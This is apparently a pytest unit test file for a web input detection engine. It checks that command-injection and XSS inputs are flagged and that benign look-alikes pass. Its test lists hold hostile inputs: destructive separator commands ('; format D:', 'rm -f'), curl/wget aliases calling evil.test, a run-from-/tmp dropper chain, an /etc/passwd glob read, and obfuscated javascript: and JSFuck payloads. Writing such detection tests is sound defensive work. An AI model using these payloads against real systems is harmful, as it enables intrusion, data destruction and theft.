"""Unit: the command-injection and XSS shapes of the fresh27/fresh29 first contact.

Command injection: cmd.exe ``FOR`` loops (any flag, ``%v``/``%%v``, opening the value or after ``&``/``|``); a value
that opens with a separator and a command (``;chmod +x``, ``; format D:``, ``;vi -c``); a wrapper around a recon tool,
``set -o``/``env --opt`` and two probe commands as the whole value; ``alias`` renaming a tool and running it; a
Windows command with a switch or ``<`` after ``&`` in a query-like value; bash history events (``!-1!-2``); a glob
path whose directory keeps no letter (``/???/?s``); git's ``--open-files-in-pager=``; a dropped file made
executable in ``/tmp`` and run; PowerShell given a wildcard drive path. XSS: a VML frame, a script scheme split by a
tab/line-feed entity, a script URL running statements, JSFuck. Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.cmd_grammar import cmd_grammar
from bastion.detection.shell import is_cmdi
from bastion.detection.xss import is_xss
from bastion.detection.xss_shapes import obfuscated_script

BODY = Context("body", "note")
QUERY = Context("query", "q")

FOR_LOOPS = [
    "for %x in (a,b) do ping -n 3 127.0.0.1",
    "for %%x in (1 2) do whoami",
    "FOR /D %d IN (*) DO dir %d",
    "for /r d:\\temp %f in (*.bat) do type %f",
    'FOR /R "C:\\Program Files" %G IN (*.dll) DO echo %G',
    "for /l %i in (1,1,9) do nslookup a%i.evil.test",
    'for /f "delims=" %i in ("abc") do @echo %i',
    "for /F \"usebackq\" %%k in (`hostname`) do set h=%%k",
    '& FOR /F "tokens=1-2" %B IN ("xx yy") DO @calc',
    "| for /L %n in (1,1,5) do ping",
    "a=1&for %v in (x) do del %v",
]
SEPARATOR_FIRST = [
    "; format D:",
    ";chmod +x shell.php",
    ";CHMOD 755 X.PHP",
    "&& chown www:www /srv/app",
    ";vi -c:\\!id",
    "; rm -f index.html",
]
WHOLE_LINES = ["time tracert", "nohup nslookup evil.test", "env --version", "set -o vi", "ls & id", "whoami;pwd"]
ALIASES = [
    "alias b=w${Q}get&b evil.test",
    "alias 'x'=curl&x evil.test",
    'alias k="curl";k evil.test',
    "alias -p zz=id",
    "alias y=nc",
    "alias n=nothing;n",
]
QUERY_COMMANDS = ["q=photo.png&sort /r data.txt", "q=photo.png&bcdedit < in.txt", "q=photo.png&findstr/s secret"]
OTHER_COMMANDS = [
    "!-2!-3",
    "!-4",
    '<r><a b="!-1!-3"/></r>',
    "/???/?s",
    "/b??/c?t /e??/p??s??",
    "--open-files-in-pager=id;",
    "echo X > /tmp/a.b64; base64 -d /tmp/a.b64 > /tmp/run; chmod 755 /tmp/run; /tmp/run",
    "powershell C:**3\\w??d*.*?",
]
XSS = [
    '<v:vmlframe src="//evil.test/x.fml"/>',
    "jav&tab;ascript:",
    "java&NewLine;script: ",
    "vb&#9;script:",
    "ja\tvascript:",
    "[x](javascript&#58window;confirm&#40;1&#41;)",
    "javascript:top;confirm(2)",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]]",
]


@pytest.mark.parametrize("value", FOR_LOOPS + SEPARATOR_FIRST + WHOLE_LINES + ALIASES)
def test_cmd_loops_separator_first_whole_lines_and_aliases(engine: Engine, value: str) -> None:
    hit = engine.inspect(value, BODY)
    assert hit is not None and hit.rule.attack == "cmdi"


@pytest.mark.parametrize("value", QUERY_COMMANDS + OTHER_COMMANDS)
@pytest.mark.parametrize("ctx", [BODY, QUERY])
def test_windows_command_in_a_query_history_globs_and_options(engine: Engine, value: str, ctx: Context) -> None:
    hit = engine.inspect(value, ctx)
    assert hit is not None and hit.rule.attack == "cmdi"


@pytest.mark.parametrize("value", XSS)
def test_xss_without_handler_or_script(engine: Engine, value: str) -> None:
    hit = engine.inspect(value, BODY)
    assert hit is not None and hit.rule.attack == "xss"


BENIGN = [
    # query strings, ampersands, loops and aliases in prose
    "a=1&b=2", "view=image.jpg&sort=asc", "view=image.jpg&type=png", "page=2&lang=en&sort=name",
    "alias=foo&bar=baz", "env=prod&region=eu", "time=12:00&date=today", "R & D", "Q&A", "ls and id card",
    "for loop in (set) do", "Looking for %d in (range) docs", "100% in (total) done", "for each item in (list) do it",
    "time to go", "time tracking", "set up the office", "env variables", "alias name for the user", "alias: Johnny",
    "also known as alias Bob=Robert", "alias jdoe=john", "format: C:", "; see attached", ";-)",
    # shell in a runbook sentence, history-like punctuation, globs that are routes
    "chmod +x deploy.sh && ./deploy.sh", "!important", "Wow!!", "Great!-1 point", "/api/*/items", "/docs/??",
    "--open-files", "sort /r is a switch",
    # script words, markdown images, arithmetic in brackets, VML mentioned in text
    "javascript: the good parts", "Learn javascript:", "![](img.png) and ![](b.png)", "score: [1]+[2]",
    "see javascript:void docs", "<vml>shape</vml>", "a[] + b[] = c[]",
]


@pytest.mark.parametrize("value", BENIGN)
def test_look_alikes_pass(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is None
    assert engine.inspect(value, QUERY) is None


def test_long_inputs_are_linear() -> None:
    tools = frozenset({"curl", "id"})
    started = time.process_time()
    cmd_grammar("for %a in (" * 12_000, tools)
    cmd_grammar("& for /r " * 14_000, tools)
    cmd_grammar("alias a=curl" * 11_000, tools)
    cmd_grammar("a=b&c" * 26_000 + " /r", tools)
    cmd_grammar("!-1" * 43_000 + "x", tools)
    cmd_grammar("chmod +x /tmp/a; " * 7_500, tools)
    obfuscated_script("j&tab;" * 21_000 + "script:")
    obfuscated_script("javascript:a;" * 10_000)
    obfuscated_script("[]+[]" * 26_000 + "x")
    obfuscated_script(("[]+" * 15 + "a") * 2_800)
    is_cmdi("; " + "for %a in (x) do " * 7_000)
    is_xss("ja\t" * 40_000)
    assert time.process_time() - started < 1.0
